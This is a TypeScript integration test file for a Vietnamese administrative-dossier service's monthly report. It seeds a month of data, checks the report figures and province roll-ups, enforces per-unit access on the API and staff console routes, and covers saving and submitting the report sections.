/**
 * The monthly report (issue 10 §7) on a month seeded by hand in a database of this file's own:
 * every figure checked against counts made here by hand (and the timeliness rule against
 * WorkingCalendar.timeliness); the month's boundaries at 00:00 +07:00; the province's roll-up is
 * the sum of its communes; unit confinement on every route; CSV and XLSX content (the XLSX parsed
 * back with exceljs); sections saved, submitted once, frozen, never edited after.
 */
import { execFileSync, spawnSync } from "node:child_process";
import { randomBytes, randomUUID } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { extractText, getDocumentProxy } from "unpdf";
import ExcelJS from "exceljs";
import { parse } from "csv-parse/sync";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startOfDay, WorkingCalendar } from "../../src/calendar/working-days.js";
import { jobCatalog } from "../../queues/catalog.js";
import { JOB } from "../../queues/names.js";
import { startWorkerRole } from "../../src/app/worker-role.js";
import { monthBounds, monthOf, preparationDay } from "../../src/reports/monthly-report.js";
import { staffReportReminderText } from "../../src/text/staff-vi.js";
import { startTestApp, type TestApp } from "../support/app.js";
import { cloneTestDatabase } from "../support/databases.js";

let database: Awaited<ReturnType<typeof cloneTestDatabase>>;
let t: TestApp;
const keys: Record<string, string> = {};
const MONTH = "2026-10";
const A = "29955"; // Phường Hồng Ngự (province 82)
const B = "28249"; // Phường Đạo Thạnh (province 82)
const PROVINCE = "82";
let elsewhere: string; // a commune of another province
const tag = randomBytes(3).toString("hex").toUpperCase();

/** An instant given in Vietnam's time. */
const vn = (local: string) => new Date(`${local}+07:00`);

let citizenId: string;
let seq = 0;
const dossiers: Record<string, string> = {};

async function dossier(name: string, o: { commune?: string; channel?: "COUNTER" | "ONLINE" | "POSTAL"; receivedAt: Date; dueAt?: Date; newDueAt?: Date }) {
  const d = await t.ctx.db.dossier.create({
    data: {
      code: `H15.50.05.13-261001-${tag}${String(++seq).padStart(3, "0")}`,
      applicantId: citizenId,
      communeCode: o.commune ?? A,
      channel: o.channel ?? "COUNTER",
      receivedAt: o.receivedAt,
      dueAt: o.dueAt ?? null,
      newDueAt: o.newDueAt ?? null,
      status: "RECEIVED",
      statusAt: o.receivedAt,
    },
  });
  dossiers[name] = d.id;
  return d.id;
}

async function event(dossierName: string, status: "RETURNED" | "DELIVERED" | "PROCESSING", occurredAt: Date) {
  const e = await t.ctx.db.dossierEvent.create({ data: { origin: "upstream", eventId: `mr-${randomUUID()}`, dossierId: dossiers[dossierName]!, status, occurredAt, payload: {} } });
  return e.id;
}

type Attempt = { channel: "TELEGRAM" | "SMS" | "ZNS" | "ZALO_OA"; status: "SENT" | "DELIVERED" | "FAILED" | "UNCONFIRMED"; outcome?: string; segments?: number; providerMessageId?: string; recipient?: string; startedAt?: Date };

async function notice(o: { dossier?: string; broadcastId?: string; status: "QUEUED" | "SENT" | "DELIVERED" | "FAILED" | "CANCELLED" | "UNCONFIRMED"; createdAt: Date; attempts?: Attempt[] }) {
  const n = await t.ctx.db.notice.create({
    data: {
      type: o.broadcastId ? "BROADCAST" : "RECEIVED",
      dossierId: o.dossier ? dossiers[o.dossier]! : null,
      broadcastId: o.broadcastId ?? null,
      // As the sender keeps them: the plan, and the index of the channel tried last (a fallback moves it on).
      channelPlan: [...new Set((o.attempts ?? []).map((a) => a.channel))],
      channelIndex: Math.max(0, [...new Set((o.attempts ?? []).map((a) => a.channel))].indexOf(o.attempts?.at(-1)?.channel as never)),
      variables: {},
      status: o.status,
      dedupeKey: `mr-${randomUUID()}`,
      createdAt: o.createdAt,
    },
  });
  let no = 0;
  for (const a of o.attempts ?? []) {
    await t.ctx.db.noticeAttempt.create({
      data: {
        noticeId: n.id,
        channel: a.channel,
        attemptNo: ++no,
        status: a.status,
        outcome: a.outcome ?? null,
        segments: a.segments ?? null,
        providerMessageId: a.providerMessageId ?? null,
        recipient: a.recipient ?? null,
        startedAt: a.startedAt ?? new Date(o.createdAt.getTime() + no * 1000),
      },
    });
  }
  return n.id;
}

async function booking(o: { kind: "RESULT_DELIVERY" | "DOSSIER_COLLECTION"; dossier?: string; createdAt: Date; status?: "REQUESTED" | "COMPLETED" | "FAILED"; completedAt?: Date; failedAt?: Date; commune?: string }) {
  await t.ctx.db.deliveryBooking.create({
    data: {
      reference: `MR${randomBytes(4).toString("hex").toUpperCase()}`,
      kind: o.kind,
      dossierId: o.dossier ? dossiers[o.dossier]! : null,
      recipientName: "Nguyễn Văn An",
      recipientPhone: "+84912000101",
      communeCode: o.commune ?? A,
      addressLine: "12 Nguyễn Huệ",
      timeWindow: "8:00–11:00",
      postage: 22000,
      status: o.status ?? "REQUESTED",
      completedAt: o.completedAt ?? null,
      failedAt: o.failedAt ?? null,
      createdAt: o.createdAt,
    },
  });
}

async function apology(dossierName: string, issuedAt: Date, late: boolean) {
  await t.ctx.db.apology.create({ data: { dossierId: dossiers[dossierName]!, reason: "Cần xác minh thêm", newDueAt: new Date(issuedAt.getTime() + 7 * 86_400_000), issuedAt, late, issuedBy: "session:test", issuedByName: "Cán bộ A" } });
}

async function handover(dossierName: string, handedAt: Date, result: "EARLY" | "ON_TIME" | "LATE") {
  await t.ctx.db.handover.create({ data: { dossierId: dossiers[dossierName]!, fromUnit: "Bộ phận một cửa", toUnit: "Công chức tư pháp", handedBy: "Cán bộ A", receivedBy: "Cán bộ B", handedAt, result } });
}

async function broadcast(commune: string, sentAt: Date, recipientsTotal: number) {
  const b = await t.ctx.db.broadcast.create({ data: { communeCode: commune, title: "Lịch tiêm phòng", body: "Tiêm phòng dại cho chó mèo tại nhà văn hóa ấp.", status: "SENT", createdBy: "session:test", createdByName: "Cán bộ A", sentAt, recipientsTotal } });
  return b.id;
}

async function api(method: string, path: string, key: string | null, body?: unknown) {
  const res = await fetch(t.baseUrl + path, {
    method,
    redirect: "manual",
    headers: { ...(key ? { authorization: `Bearer ${key}` } : {}), ...(body !== undefined ? { "content-type": "application/json" } : {}) },
    ...(body !== undefined ? { body: JSON.stringify(body) } : {}),
  });
  const buffer = Buffer.from(await res.arrayBuffer());
  const text = buffer.toString("utf8");
  let json: any = null;
  try {
    json = JSON.parse(text);
  } catch {
    json = null;
  }
  return { status: res.status, headers: res.headers, text, buffer, body: json, location: res.headers.get("location") };
}

async function form(path: string, key: string, fields: Record<string, string>) {
  const res = await fetch(t.baseUrl + path, { method: "POST", redirect: "manual", headers: { authorization: `Bearer ${key}`, "content-type": "application/x-www-form-urlencoded" }, body: new URLSearchParams(fields).toString() });
  return { status: res.status, html: await res.text(), location: res.headers.get("location") };
}

const report = (unit: string, key: string, month = MONTH) => api("GET", `/api/v1/reports/monthly?unit=${unit}&month=${month}`, key);

beforeAll(async () => {
  database = await cloneTestDatabase();
  t = await startTestApp({ DATABASE_URL: database.url, QUEUE_PREFIX: `mr${randomBytes(4).toString("hex")}`, SMS_SEGMENT_PRICE_VND: "850", ZALO_MESSAGE_PRICE_VND: "110" });
  elsewhere = (await t.ctx.db.adminUnit.findFirstOrThrow({ where: { level: "COMMUNE", parentCode: { not: PROVINCE } }, select: { code: true } })).code;
  citizenId = (await t.ctx.db.citizen.create({ data: { phone: `+8491${Math.floor(1e7 + Math.random() * 8e7)}`, fullName: "Nguyễn Văn An" } })).id;
  for (const [label, role, unit] of [["a", "COMMUNE_STAFF", A], ["b", "COMMUNE_STAFF", B], ["province", "COMMUNE_STAFF", PROVINCE], ["post", "POST_OFFICE_STAFF", PROVINCE], ["admin", "ADMIN", null], ["a2", "COMMUNE_STAFF", A]] as const) {
    keys[label] = (await t.ctx.apiKeys.create({ name: `Cán bộ ${label}`, role, unitCode: unit })).key;
  }
  keys.integration = (await t.ctx.apiKeys.create({ name: "upstream", role: "INTEGRATION" })).key;

  // ── Commune A, October 2026 ──
  // Received: the first instant of the month and the last are in; the instants either side are out.
  await dossier("d1", { channel: "COUNTER", receivedAt: vn("2026-10-01T00:00:00"), dueAt: vn("2026-10-10T17:00:00") });
  await dossier("d2", { channel: "ONLINE", receivedAt: vn("2026-10-15T09:00:00"), dueAt: vn("2026-10-20T17:00:00") });
  await dossier("d3", { channel: "POSTAL", receivedAt: vn("2026-10-20T09:00:00"), dueAt: vn("2026-10-22T17:00:00"), newDueAt: vn("2026-10-28T17:00:00") });
  await dossier("d4", { channel: "POSTAL", receivedAt: vn("2026-10-31T23:59:59.999") });
  await dossier("d5", { channel: "COUNTER", receivedAt: vn("2026-09-30T23:59:59.999"), dueAt: vn("2026-09-30T17:00:00") });
  await dossier("d6", { channel: "COUNTER", receivedAt: vn("2026-11-01T00:00:00") });
  await dossier("d7", { channel: "ONLINE", receivedAt: vn("2026-08-10T09:00:00") });
  await dossier("d8", { channel: "ONLINE", receivedAt: vn("2026-08-11T09:00:00"), dueAt: vn("2026-09-30T17:00:00") });
  await dossier("d9", { channel: "ONLINE", receivedAt: vn("2026-08-12T09:00:00"), dueAt: vn("2026-11-01T17:00:00") });
  await dossier("d10", { channel: "COUNTER", receivedAt: vn("2026-09-01T09:00:00"), dueAt: vn("2026-10-12T17:00:00") });
  await dossier("d11", { channel: "COUNTER", receivedAt: vn("2026-09-02T09:00:00"), dueAt: vn("2026-10-03T17:00:00"), newDueAt: vn("2026-10-15T17:00:00") });

  // Results returned.
  await event("d1", "RETURNED", vn("2026-10-09T10:00:00")); // early
  await event("d2", "RETURNED", vn("2026-10-20T16:00:00")); // on time
  await event("d2", "DELIVERED", vn("2026-10-25T10:00:00")); // the same dossier again: counted once
  await event("d3", "DELIVERED", vn("2026-10-27T10:00:00")); // early against the new date (late against the old): through the post
  await event("d5", "RETURNED", vn("2026-10-02T08:00:00")); // late; its result delivery completed: through the post
  await event("d7", "RETURNED", vn("2026-10-31T23:30:00")); // no due date
  await event("d8", "RETURNED", vn("2026-09-30T23:30:00")); // returned in September ...
  await event("d8", "DELIVERED", vn("2026-10-05T10:00:00")); // ... so not again in October
  await event("d9", "RETURNED", vn("2026-11-01T00:30:00")); // November
  await event("d10", "RETURNED", vn("2026-10-13T06:00:00")); // 12 Oct 23:00 UTC: the 13th in Vietnam, a day late
  await event("d1", "PROCESSING", vn("2026-10-02T10:00:00")); // not a return

  // Apologies: d3 and d4 in the month (one at its last instant), d11 issued on its due date (late); d2's in September.
  await apology("d3", vn("2026-10-21T10:00:00"), false);
  await apology("d4", vn("2026-10-31T23:59:59"), false);
  await apology("d11", vn("2026-10-03T18:00:00"), true);
  await apology("d2", vn("2026-09-30T23:00:00"), false);

  // Hand-overs: three in October, one at November's first instant.
  await handover("d1", vn("2026-10-02T08:00:00"), "EARLY");
  await handover("d1", vn("2026-10-05T08:00:00"), "ON_TIME");
  await handover("d2", vn("2026-10-16T08:00:00"), "LATE");
  await handover("d3", vn("2026-11-01T00:00:00"), "ON_TIME");

  // Zalo OA followers: one who wrote 5 days before the message (paid), one an hour before (free).
  const msgAt = vn("2026-10-12T09:00:00");
  await t.ctx.db.channelIdentity.create({ data: { channel: "ZALO_OA", externalId: `zu1-${tag}`, lastInteractionAt: new Date(msgAt.getTime() - 5 * 86_400_000) } });
  await t.ctx.db.channelIdentity.create({ data: { channel: "ZALO_OA", externalId: `zu2-${tag}`, lastInteractionAt: new Date(msgAt.getTime() - 3600_000) } });

  // Notices about A's dossiers.
  const oct = vn("2026-10-12T09:00:00");
  await notice({ dossier: "d1", status: "DELIVERED", createdAt: oct, attempts: [{ channel: "TELEGRAM", status: "DELIVERED" }] });
  await notice({ dossier: "d2", status: "DELIVERED", createdAt: oct, attempts: [{ channel: "TELEGRAM", status: "FAILED", outcome: "fallback" }, { channel: "SMS", status: "DELIVERED", segments: 2, providerMessageId: "SM1" }] });
  await notice({ dossier: "d3", status: "FAILED", createdAt: oct, attempts: [{ channel: "ZNS", status: "FAILED", outcome: "fallback" }, { channel: "SMS", status: "FAILED", segments: 1, providerMessageId: "SM2", outcome: "undelivered" }] });
  await notice({ dossier: "d4", status: "UNCONFIRMED", createdAt: vn("2026-10-31T23:59:00"), attempts: [{ channel: "TELEGRAM", status: "UNCONFIRMED", outcome: "unknown" }] });
  await notice({ dossier: "d5", status: "UNCONFIRMED", createdAt: vn("2026-10-01T00:00:00"), attempts: [{ channel: "SMS", status: "UNCONFIRMED", outcome: "reconciling", segments: 1 }] });
  await notice({ dossier: "d7", status: "SENT", createdAt: oct, attempts: [{ channel: "ZNS", status: "SENT", providerMessageId: "Z1" }] });
  await notice({ dossier: "d1", status: "CANCELLED", createdAt: oct });
  await notice({ dossier: "d2", status: "QUEUED", createdAt: oct });
  await notice({ dossier: "d1", status: "DELIVERED", createdAt: vn("2026-09-30T23:00:00"), attempts: [{ channel: "SMS", status: "DELIVERED", segments: 3 }] }); // September
  await notice({ dossier: "d10", status: "DELIVERED", createdAt: msgAt, attempts: [{ channel: "ZALO_OA", status: "DELIVERED", recipient: `zu1-${tag}`, startedAt: msgAt }] });
  await notice({ dossier: "d10", status: "DELIVERED", createdAt: msgAt, attempts: [{ channel: "ZALO_OA", status: "DELIVERED", recipient: `zu2-${tag}`, startedAt: msgAt }] });

  // Announcements: one sent in October to 3 residents (one delivered, one sent, one failed); one sent in November.
  const b1 = await broadcast(A, vn("2026-10-10T10:00:00"), 3);
  await notice({ broadcastId: b1, status: "DELIVERED", createdAt: vn("2026-10-10T10:00:00"), attempts: [{ channel: "TELEGRAM", status: "DELIVERED" }] });
  await notice({ broadcastId: b1, status: "SENT", createdAt: vn("2026-10-10T10:00:00"), attempts: [{ channel: "ZALO_OA", status: "SENT", recipient: `zu2-${tag}`, startedAt: msgAt }] });
  await notice({ broadcastId: b1, status: "FAILED", createdAt: vn("2026-10-10T10:00:00"), attempts: [{ channel: "TELEGRAM", status: "FAILED", outcome: "blocked" }] });
  const b2 = await broadcast(A, vn("2026-11-01T00:00:00"), 5);
  await notice({ broadcastId: b2, status: "DELIVERED", createdAt: vn("2026-11-01T00:00:00"), attempts: [{ channel: "TELEGRAM", status: "DELIVERED" }] });

  // Bookings.
  await booking({ kind: "RESULT_DELIVERY", dossier: "d5", createdAt: vn("2026-10-01T08:00:00"), status: "COMPLETED", completedAt: vn("2026-10-02T09:00:00") });
  await booking({ kind: "RESULT_DELIVERY", dossier: "d3", createdAt: vn("2026-09-25T08:00:00"), status: "FAILED", failedAt: vn("2026-10-05T09:00:00") });
  await booking({ kind: "DOSSIER_COLLECTION", createdAt: vn("2026-10-10T08:00:00") });
  await booking({ kind: "DOSSIER_COLLECTION", createdAt: vn("2026-10-20T08:00:00"), status: "COMPLETED", completedAt: vn("2026-11-01T00:00:00") });

  // ── Commune B: one dossier received and returned early, one SMS, one hand-over, one booking ──
  await dossier("b1", { commune: B, channel: "POSTAL", receivedAt: vn("2026-10-10T09:00:00"), dueAt: vn("2026-10-12T17:00:00") });
  await event("b1", "DELIVERED", vn("2026-10-11T09:00:00"));
  await notice({ dossier: "b1", status: "DELIVERED", createdAt: vn("2026-10-10T09:00:00"), attempts: [{ channel: "SMS", status: "DELIVERED", segments: 1 }] });
  await handover("b1", vn("2026-10-10T10:00:00"), "ON_TIME");
  await booking({ kind: "RESULT_DELIVERY", dossier: "b1", commune: B, createdAt: vn("2026-10-10T11:00:00"), status: "COMPLETED", completedAt: vn("2026-10-11T09:00:00") });
  // Another province's commune: counted nowhere here.
  await dossier("x1", { commune: elsewhere, receivedAt: vn("2026-10-10T09:00:00") });
}, 120_000);

afterAll(async () => {
  await t?.close();
  await database?.drop();
});

/** Every number of the figures, flat ("notices.byChannel.SMS.total" → n), to compare reports. */
function flat(value: unknown, prefix = "", out: Record<string, number> = {}): Record<string, number> {
  if (typeof value === "number") out[prefix] = value;
  else if (Array.isArray(value)) for (const v of value as { channel: string }[]) flat(v, `${prefix}.${v.channel}`, out);
  else if (value && typeof value === "object") for (const [k, v] of Object.entries(value)) if (k !== "channel" && k !== "currency") flat(v, prefix ? `${prefix}.${k}` : k, out);
  return out;
}

describe("the month's boundaries", () => {
  it("a month runs from 00:00 +07:00 on its first day to 00:00 +07:00 on the next month's", () => {
    expect(monthBounds("2026-10")).toEqual({ from: new Date("2026-09-30T17:00:00Z"), to: new Date("2026-10-31T17:00:00Z") });
    expect(monthBounds("2026-12").to).toEqual(new Date("2026-12-31T17:00:00Z"));
    expect(monthOf(new Date("2026-10-31T16:59:59.999Z"))).toBe("2026-10");
    expect(monthOf(new Date("2026-10-31T17:00:00Z"))).toBe("2026-11");
  });
});

describe("the figures of a seeded month", () => {
  it("a commune's figures are the counts made by hand", async () => {
    const res = await report(A, keys.a!);
    expect(res.status, res.text).toBe(200);
    const f = res.body.figures;
    expect(res.body.unit).toMatchObject({ code: A, level: "COMMUNE" });
    expect(res.body.status).toBe("DRAFT");
    // d1 (first instant), d2, d3, d4 (last instant); not d5 (September's last instant) nor d6 (November's first).
    expect(f.received).toEqual({ total: 4, COUNTER: 1, ONLINE: 1, POSTAL: 2 });

    // The timeliness rule is WorkingCalendar.timeliness's (calendar day in Vietnam, the new due date first).
    const cal = new WorkingCalendar();
    const judged = [
      cal.timeliness(vn("2026-10-09T10:00:00"), vn("2026-10-10T17:00:00")), // d1
      cal.timeliness(vn("2026-10-20T16:00:00"), vn("2026-10-20T17:00:00")), // d2
      cal.timeliness(vn("2026-10-27T10:00:00"), vn("2026-10-28T17:00:00")), // d3 against its new date
      cal.timeliness(vn("2026-10-02T08:00:00"), vn("2026-09-30T17:00:00")), // d5
      cal.timeliness(vn("2026-10-13T06:00:00"), vn("2026-10-12T17:00:00")), // d10
    ];
    expect(judged).toEqual(["EARLY", "ON_TIME", "EARLY", "LATE", "LATE"]);
    const count = (x: string) => judged.filter((j) => j === x).length;
    // d1, d2, d3, d5, d7, d10 returned in October; d8's first return was in September, d9's in November.
    expect(f.returned).toEqual({ total: 6, byPost: 2, early: count("EARLY"), onTime: count("ON_TIME"), late: count("LATE"), noDueDate: 1 });

    expect(f.apologies).toEqual({ total: 3, late: 1 });
    expect(f.handovers).toEqual({ total: 3, EARLY: 1, ON_TIME: 1, LATE: 1 });

    const ch = Object.fromEntries(f.notices.byChannel.map((c: { channel: string }) => [c.channel, c]));
    expect(ch.TELEGRAM).toEqual({ channel: "TELEGRAM", total: 4, delivered: 2, sent: 0, failed: 1, unknown: 1, checking: 0, pending: 0, cancelled: 0, fellBack: 0 });
    expect(ch.SMS).toEqual({ channel: "SMS", total: 3, delivered: 1, sent: 0, failed: 1, unknown: 0, checking: 1, pending: 0, cancelled: 0, fellBack: 2 });
    expect(ch.ZNS).toEqual({ channel: "ZNS", total: 1, delivered: 0, sent: 1, failed: 0, unknown: 0, checking: 0, pending: 0, cancelled: 0, fellBack: 0 });
    expect(ch.ZALO_OA).toEqual({ channel: "ZALO_OA", total: 3, delivered: 2, sent: 1, failed: 0, unknown: 0, checking: 0, pending: 0, cancelled: 0, fellBack: 0 });
    expect(ch.NONE).toEqual({ channel: "NONE", total: 2, delivered: 0, sent: 0, failed: 0, unknown: 0, checking: 0, pending: 1, cancelled: 1, fellBack: 0 });
    expect(f.notices).toMatchObject({ total: 13, delivered: 5, sent: 2, failed: 2, unknown: 1, checking: 1, pending: 1, cancelled: 1, fellBack: 2 });
    // SMS: 2 segments delivered + 1 accepted then undelivered + 1 maybe sent; Zalo: one ZNS and one OA message outside the 48 h window.
    expect(f.notices.cost).toEqual({ currency: "VND", smsSegments: 4, smsSegmentPrice: 850, sms: 3400, zaloPaidMessages: 2, zaloMessagePrice: 110, zalo: 220, total: 3620 });

    expect(f.bookings).toEqual({
      RESULT_DELIVERY: { requested: 1, completed: 1, failed: 1 },
      DOSSIER_COLLECTION: { requested: 2, completed: 0, failed: 0 },
      total: { requested: 3, completed: 1, failed: 1 },
    });
    expect(f.announcements).toEqual({ sent: 1, recipients: 3, reached: 2, delivered: 1 });
  });

  it("the province's roll-up is the sum of its communes", async () => {
    const [p, a, b] = await Promise.all([report(PROVINCE, keys.province!), report(A, keys.province!), report(B, keys.province!)]);
    expect(p.status).toBe(200);
    expect(p.body.unit).toMatchObject({ code: PROVINCE, level: "PROVINCE" });
    expect(b.body.figures.received).toEqual({ total: 1, COUNTER: 0, ONLINE: 0, POSTAL: 1 });
    expect(b.body.figures.returned).toMatchObject({ total: 1, byPost: 1, early: 1 });
    const fp = flat(p.body.figures);
    const fa = flat(a.body.figures);
    const fb = flat(b.body.figures);
    const keysAll = new Set([...Object.keys(fp), ...Object.keys(fa), ...Object.keys(fb)]);
    for (const k of keysAll) {
      if (k.endsWith("Price")) continue;
      expect(fp[k] ?? 0, k).toBe((fa[k] ?? 0) + (fb[k] ?? 0));
    }
    expect(fp["received.total"]).toBe(5); // not the other province's dossier
    // One line per commune of the province, each with its own figures.
    const lines = Object.fromEntries(p.body.communes.map((c: { code: string }) => [c.code, c]));
    expect(p.body.communes.length).toBeGreaterThan(2);
    expect(lines[A]).toMatchObject({ received: 4, receivedByPost: 2, returned: 6, returnedByPost: 2, late: 2, apologies: 3, handovers: 3, notices: 13, noticesFailed: 2, bookingsRequested: 3, announcements: 1 });
    expect(lines[B]).toMatchObject({ received: 1, returned: 1 });
    expect(lines[elsewhere]).toBeUndefined();
  });
});

describe("unit confinement", () => {
  it("GET /api/v1/reports/monthly: a commune officer their commune only; a province officer the roll-up and its communes; others 404; post office and integration keys 403; no key 401; bad month or format 400", async () => {
    expect((await report(A, keys.a!)).status).toBe(200);
    expect((await report(B, keys.a!)).status).toBe(404);
    expect((await report(PROVINCE, keys.a!)).status).toBe(404);
    expect((await report(PROVINCE, keys.province!)).status).toBe(200);
    expect((await report(B, keys.province!)).status).toBe(200);
    expect((await report(elsewhere, keys.province!)).status).toBe(404);
    expect((await report("99999", keys.admin!)).status).toBe(404);
    expect((await report(elsewhere, keys.admin!)).status).toBe(200);
    expect((await report(A, keys.post!)).status).toBe(403);
    expect((await report(A, keys.integration!)).status).toBe(403);
    expect((await api("GET", `/api/v1/reports/monthly?unit=${A}&month=${MONTH}`, null)).status).toBe(401);
    const future = monthOf(new Date(Date.now() + 40 * 86_400_000));
    for (const [query, field] of [
      [`unit=${A}&month=9999-01`, "month"],
      [`unit=${A}&month=${future}`, "month"],
      [`unit=${A}&month=2026-13`, "month"],
      [`unit=${A}&month=2026-1`, "month"],
      [`unit=${A}&month=2019-12`, "month"],
      [`unit=abc&month=${MONTH}`, "unit"],
      [`unit=${A}&month=${MONTH}&format=pdf`, "format"],
      [`unit=${A}&month=${MONTH}&extra=1`, "query"],
    ]) {
      const res = await api("GET", `/api/v1/reports/monthly?${query}`, keys.a!);
      expect(res.status, query).toBe(400);
      expect(res.body.error.field, query).toBe(field);
    }
  });

  it("PUT /api/v1/reports/monthly/:unit/:month: only within the unit (404 outside, 403 for other roles, 401 without a key); a bad section is a 400 naming it", async () => {
    const body = { results: "Tiếp nhận đúng quy trình." };
    expect((await api("PUT", `/api/v1/reports/monthly/${A}/2026-09`, keys.b!, body)).status).toBe(404);
    expect((await api("PUT", `/api/v1/reports/monthly/${PROVINCE}/2026-09`, keys.a!, body)).status).toBe(404);
    expect((await api("PUT", `/api/v1/reports/monthly/${A}/2026-09`, keys.post!, body)).status).toBe(403);
    expect((await api("PUT", `/api/v1/reports/monthly/${A}/2026-09`, null, body)).status).toBe(401);
    const bad = await api("PUT", `/api/v1/reports/monthly/${A}/2026-09`, keys.a!, { results: 5 });
    expect(bad.status).toBe(400);
    expect(bad.body.error.field).toBe("results");
    expect((await api("PUT", `/api/v1/reports/monthly/${A}/2026-09`, keys.a!, { results: "x".repeat(20_001) })).body.error.field).toBe("results");
    expect((await api("PUT", `/api/v1/reports/monthly/${A}/9999-01`, keys.a!, body)).status).toBe(400);
    // Printed and sent up the line: no control or hidden/reversing characters, nothing stored.
    for (const text of ["Đạt\u0007 kế hoạch.", "Đạt \u202ekế hoạch.", "Đạt\u200b kế hoạch.", "Đạt\uffff kế hoạch.", "Đạt\ufffe kế hoạch."]) {
      const refused = await api("PUT", `/api/v1/reports/monthly/${A}/2026-09`, keys.a!, { limitations: text });
      expect(refused.status, JSON.stringify(text)).toBe(400);
      expect(refused.body.error.field).toBe("limitations");
    }
    const ok = await api("PUT", `/api/v1/reports/monthly/${A}/2026-09`, keys.province!, body);
    expect(ok.status, ok.text).toBe(200);
    expect(ok.body.sections).toEqual({ results: "Tiếp nhận đúng quy trình.", strengths: "", limitations: "", proposals: "" });
    // A later save of one section keeps the others.
    const more = await api("PUT", `/api/v1/reports/monthly/${A}/2026-09`, keys.a!, { strengths: "Cán bộ nhiệt tình.".normalize("NFD") });
    expect(more.body.sections).toMatchObject({ results: "Tiếp nhận đúng quy trình.", strengths: "Cán bộ nhiệt tình." });
    expect(more.body.updatedBy).toBe("Cán bộ a");
  });

  it("POST /api/v1/reports/monthly/:unit/:month/submit: only within the unit (404 outside, 403 for other roles, 401 without a key)", async () => {
    expect((await api("POST", `/api/v1/reports/monthly/${A}/2026-08/submit`, keys.b!)).status).toBe(404);
    expect((await api("POST", `/api/v1/reports/monthly/${elsewhere}/2026-08/submit`, keys.province!)).status).toBe(404);
    expect((await api("POST", `/api/v1/reports/monthly/${A}/2026-08/submit`, keys.integration!)).status).toBe(403);
    expect((await api("POST", `/api/v1/reports/monthly/${A}/2026-08/submit`, null)).status).toBe(401);
    // Nothing was written for the refused ones.
    expect(await t.ctx.db.monthlyReport.count({ where: { month: "2026-08" } })).toBe(0);
  });

  it("GET /staff/reports: the console page with figures, charts with text alternatives, the sections form and downloads; another unit's report is a 404 page; signed out goes to sign in", async () => {
    const signedOut = await fetch(`${t.baseUrl}/staff/reports`, { redirect: "manual" });
    expect(signedOut.status).toBe(303);
    expect(signedOut.headers.get("location")).toMatch(/^\/staff\/login/);
    const res = await fetch(`${t.baseUrl}/staff/reports?unit=${A}&month=${MONTH}`, { headers: { authorization: `Bearer ${keys.a}` } });
    const html = await res.text();
    expect(res.status).toBe(200);
    expect(html).toContain("Báo cáo tháng: Phường Hồng Ngự, tháng 10/2026");
    expect(html).toMatch(/<svg role="img" aria-labelledby="chart-received-title chart-received-desc"/);
    expect(html).toContain("Tiếp nhận qua dịch vụ bưu chính công ích: 2");
    expect(html).toContain(`href="/api/v1/reports/monthly?unit=${A}&amp;month=${MONTH}&amp;format=xlsx"`);
    expect(html).toContain('<label for="limitations">Hạn chế</label>');
    expect(html).toContain('href="/staff/reports"');
    // The officer's own commune by default, this month.
    const home = await fetch(`${t.baseUrl}/staff/reports`, { headers: { authorization: `Bearer ${keys.a}` } });
    expect(home.status).toBe(200);
    expect(await home.text()).toContain(`value="${monthOf(new Date())}"`);
    expect((await fetch(`${t.baseUrl}/staff/reports?unit=${B}&month=${MONTH}`, { headers: { authorization: `Bearer ${keys.a}` } })).status).toBe(404);
    // An admin picks provinces; a commune named in the address is shown selected.
    const adminPage = await (await fetch(`${t.baseUrl}/staff/reports?unit=${B}&month=${MONTH}`, { headers: { authorization: `Bearer ${keys.admin}` } })).text();
    expect(adminPage).toContain(`<option value="${B}" selected>Phường Đạo Thạnh</option>`);
    expect((await fetch(`${t.baseUrl}/staff/reports?unit=${A}&month=9999-01`, { headers: { authorization: `Bearer ${keys.a}` } })).status).toBe(400);
    expect((await fetch(`${t.baseUrl}/staff/reports`, { headers: { authorization: `Bearer ${keys.post}` } })).status).toBe(403);
    // The province's page has a line per commune.
    const prov = await (await fetch(`${t.baseUrl}/staff/reports?unit=${PROVINCE}&month=${MONTH}`, { headers: { authorization: `Bearer ${keys.province}` } })).text();
    expect(prov).toContain("Theo xã, phường");
    expect(prov).toContain(`/staff/reports?unit=${B}&amp;month=${MONTH}`);
  });

  it("POST /staff/reports/:unit/:month: (and POST /staff/reports/:unit/:month/submit:) the console's forms save the sections and submit, within the unit only", async () => {
    const fields = { results: "Đạt kế hoạch.", strengths: "Trả kết quả qua bưu điện thuận tiện.", limitations: "Còn hồ sơ trễ hạn.", proposals: "Bổ sung máy quét." };
    expect((await form(`/staff/reports/${A}/2026-07`, keys.b!, fields)).status).toBe(404);
    expect((await form(`/staff/reports/${A}/2026-07/submit`, keys.b!, {})).status).toBe(404);
    expect((await form(`/staff/reports/${A}/2026-07`, keys.post!, fields)).status).toBe(403);
    const saved = await form(`/staff/reports/${A}/2026-07`, keys.a!, { ...fields, proposals: "" });
    expect(saved.status).toBe(303);
    expect(saved.location).toBe(`/staff/reports?unit=${A}&month=2026-07&msg=saved`);
    // Submitting with a section empty: the page names it.
    const early = await form(`/staff/reports/${A}/2026-07/submit`, keys.a!, {});
    expect(early.status).toBe(400);
    expect(early.html).toContain('href="#proposals"');
    await form(`/staff/reports/${A}/2026-07`, keys.a!, fields);
    const submitted = await form(`/staff/reports/${A}/2026-07/submit`, keys.a!, {});
    expect(submitted.status).toBe(303);
    expect(submitted.location).toBe(`/staff/reports?unit=${A}&month=2026-07&msg=submitted`);
    expect((await form(`/staff/reports/${A}/2026-07/submit`, keys.a!, {})).location).toBe(`/staff/reports?unit=${A}&month=2026-07&msg=already`);
    const refused = await form(`/staff/reports/${A}/2026-07`, keys.a!, fields);
    expect(refused.status).toBe(409);
    expect(refused.html).toContain("đã nộp");
    const page = await (await fetch(`${t.baseUrl}/staff/reports?unit=${A}&month=2026-07`, { headers: { authorization: `Bearer ${keys.a}` } })).text();
    expect(page).toContain("Đã nộp");
    expect(page).not.toContain('<textarea id="results"');
  });
});

describe("submitting", () => {
  it("needs the four sections, freezes the figures, records who and when, happens once; a submitted report is never edited (409)", async () => {
    const path = `/api/v1/reports/monthly/${B}/${MONTH}`;
    const early = await api("POST", `${path}/submit`, keys.b!);
    expect(early.status).toBe(400);
    expect(early.body.error.field).toBe("results");
    const sections = { results: "Tiếp nhận 1 hồ sơ qua bưu chính.", strengths: "Đúng hạn.", limitations: "Chưa có.", proposals: "Không." };
    expect((await api("PUT", path, keys.b!, sections)).status).toBe(200);
